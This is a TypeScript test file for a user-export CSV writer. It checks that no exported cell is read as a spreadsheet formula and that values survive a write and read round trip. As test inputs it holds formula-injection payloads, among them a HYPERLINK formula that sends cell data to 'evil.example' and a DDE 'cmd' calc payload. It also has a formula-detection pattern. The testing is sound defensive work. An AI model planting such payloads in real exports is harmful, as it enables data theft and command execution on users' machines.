import fc from 'fast-check';
import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { readCsv } from '../../src/transfer/formats/csv.js';
import { csvWriter } from '../../src/transfer/formats/csv-writer.js';
import { supabaseFormat } from '../../src/transfer/formats/supabase.js';
import type { ExportedUser } from '../../src/transfer/user-export.service.js';

const user = (name: string, externalId = 'id'): ExportedUser => ({
  email: '+ada@example.com',
  name,
  roles: ['admin', 'user'],
  emailVerified: true,
  createdAt: '2026-11-29T09:40:00.000Z',
  externalId,
  disabled: false,
});

const written = (users: readonly ExportedUser[]) => buffer(Readable.from(users).pipe(csvWriter(false)));

async function readAgain(users: readonly ExportedUser[]): Promise<unknown[]> {
  const rows: unknown[] = [];
  for await (const { fields } of readCsv(Readable.from([await written(users)]))) rows.push(fields);
  return rows;
}

/** What a spreadsheet does with it. */
const isFormula = (cell: string) => /^[=+\-@\t\r\uFF0B\uFF0D\uFF1D\uFF20]/.test(cell);

it.each([
  '=HYPERLINK("https://evil.example/?d="&A1,"Error: click")',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\uFF1D1',
])('no cell of an export is a formula: %j', async (name) => {
  const text = (await written([user(name, name)])).toString('utf8');
  const rows: Record<string, string>[] = [];
  // As a program reads it that knows nothing of us.
  for await (const { fields } of readCsv(Readable.from([text]), (row) => (rows.push(row), row)))
    expect(fields).toBeDefined();
  expect(rows).toHaveLength(1);
  for (const cell of Object.values(rows[0] ?? {})) expect([cell, isFormula(cell)]).toEqual([cell, false]);
});

it.each([';', '|', '\t', '\n'])(
  'no cell is a formula for a spreadsheet that separates them by %j',
  async (separator) => {
    for (const quote of ['', '"', '""', "'"]) {
      const name = ['Ada', `${quote}=cmd|' /C calc'!A0`, '+1', `'@SUM(A1)`, 'x'].join(separator);
      const cells = (await written([user(name, name)])).toString('utf8').split(separator);
      // Whatever becomes of the quotes.
      const shown = cells.map((cell) => cell.replace(/^"+/, ''));
      expect(shown.filter(isFormula)).toEqual([]);
    }
  },
);

it('every text is quoted', async () => {
  const [header, row] = (await written([user('Ada')])).toString('utf8').split('\n');
  expect(header).toBe('"externalId","email","name","roles","emailVerified","locale","createdAt","disabled"');
  expect(row).toBe(`"id","'+ada@example.com","Ada","admin user","true",,"2026-11-29T09:40:00.000Z","false"`);
});

it('whatever is written is read again as it was', async () => {
  const start = fc.constantFrom(
    '',
    "'",
    "''",
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\uFF1D',
    "'=",
    "''=",
    '"',
    '\n',
    ' ',
    ';',
    '|',
    ";'=",
  );
  const value = fc
    .array(fc.oneof(start, fc.string({ unit: 'grapheme', maxLength: 6 })), { minLength: 1, maxLength: 6 })
    .map((parts) => parts.join(''))
    .filter((text) => text !== '');
  await fc.assert(
    fc.asyncProperty(fc.array(fc.tuple(value, value), { minLength: 1, maxLength: 5 }), async (pairs) => {
      const users = pairs.map(([name, externalId]) => user(name, externalId));
      const texts = users.map((one) => ({ ...one, roles: 'admin user', emailVerified: 'true', disabled: 'false' }));
      expect(await readAgain(users)).toEqual(texts);
    }),
    { numRuns: 300 },
  );
});

it('a file of another server is read as it is', async () => {
  const file = Readable.from([`id,email,raw_user_meta_data\n1,"'+a@example.com","{""name"":""'=x""}"\n`]);
  for await (const { fields } of supabaseFormat(new Date(0))(file))
    expect(fields).toMatchObject({ email: "'+a@example.com", name: "'=x" });
});
